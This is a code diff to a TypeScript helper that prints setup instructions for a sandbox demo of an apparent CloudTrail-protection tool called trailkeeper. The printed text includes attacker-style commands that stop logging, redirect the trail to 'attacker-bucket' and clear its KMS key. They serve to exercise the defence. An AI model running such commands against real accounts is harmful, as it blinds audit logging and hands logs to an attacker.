@@ -49,7 +49,7 @@ function wholeNumber(text: string): number {
 }
 
 function invitation(
-  { endpoint, account, region, trail, table, outputs }: Sandbox,
+  { endpoint, region, account, trail }: Sandbox,
   { mode, sweepEvery }: Pick<Options, 'mode' | 'sweepEvery'>,
 ): string {
   return `
@@ -60,8 +60,6 @@ In another shell, be somebody with rights in account ${account}:
 
   export AWS_ENDPOINT_URL=${endpoint} AWS_REGION=${region} AWS_DEFAULT_REGION=${region}
   export AWS_ACCESS_KEY_ID=mallory AWS_SECRET_ACCESS_KEY=any
-  export TRAILKEEPER_TABLE=${table}
-  export TRAILKEEPER_DEAD_LETTERS=${outputs.DeadLetterQueueUrl}
 
   aws cloudtrail stop-logging --name org-trail
   aws cloudtrail update-trail --name org-trail --s3-bucket-name attacker-bucket --kms-key-id ""
@@ -71,6 +69,7 @@ and a moment later:
 
   aws cloudtrail get-trail --name org-trail
   aws cloudtrail get-trail-status --name org-trail
+  npx trailkeeper incidents
   curl -s -X POST ${endpoint}/_sandbox/sweep     # sweep now
   curl -s ${endpoint}/_sandbox/calls             # every call, by whom
 
